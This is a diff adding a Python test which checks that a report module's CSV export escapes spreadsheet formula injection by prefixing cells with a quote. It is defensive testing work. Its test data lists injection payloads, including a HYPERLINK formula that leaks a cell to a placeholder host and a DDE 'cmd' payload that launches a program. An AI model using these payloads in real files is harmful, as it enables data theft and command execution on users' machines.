@@ -99,3 +99,17 @@ def test_run_report() -> None:
     rows = list(csv.DictReader(io.StringIO(report.run_csv(run, records))))
     assert rows[0]["checks"] == "pass contains “Paris”" and rows[1]["ok"] == "False"
     assert json.loads(report.run_json(run, records))["records"][0]["content"] == "Paris."
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
+    from dataclasses import replace
+
+    rnd = a_round()
+    evil = ("=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
+    slots = tuple(replace(s, content=text, model=text)
+                  for s, text in zip(rnd.slots, evil, strict=False))
+    rows = list(csv.DictReader(io.StringIO(report.round_csv(replace(rnd, slots=slots)))))
+    assert [r["content"] for r in rows] == ["'" + t for t in evil[:3]]
+    assert [r["model"] for r in rows] == ["'" + t for t in evil[:3]]
+    assert rows[1]["load_s"] == "2.5" and rows[0]["ttft_s"] == "0.1"  # numbers stay numbers
+    assert rows[1]["quantization"] == "Q4_K_M"
